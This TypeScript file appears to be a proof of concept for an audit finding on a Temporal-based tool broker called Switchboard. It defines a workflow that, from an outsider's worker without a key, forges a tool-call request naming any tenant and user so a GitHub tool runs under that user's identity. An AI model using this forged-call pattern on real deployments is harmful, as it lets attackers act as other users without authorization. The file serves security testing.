// An outsider's workflow (finding 7): it runs on the outsider's own worker, which has no
// Switchboard key, and asks Switchboard's worker to run a tool for a user it names, with plain input.
import { proxyActivities } from '@temporalio/workflow';

export async function forgedToolCall(input: { switchboardTaskQueue: string; tenantId: string; userId: string }): Promise<unknown> {
  const { executeToolCall } = proxyActivities<{ executeToolCall(request: unknown): Promise<unknown> }>({
    taskQueue: input.switchboardTaskQueue,
    startToCloseTimeout: '1 minute',
    retry: { maximumAttempts: 1 },
  });
  return executeToolCall({
    callKey: 'forged#1',
    tenantId: input.tenantId,
    userId: input.userId,
    call: { tool: 'github__get_authenticated_user', args: {} },
  });
}
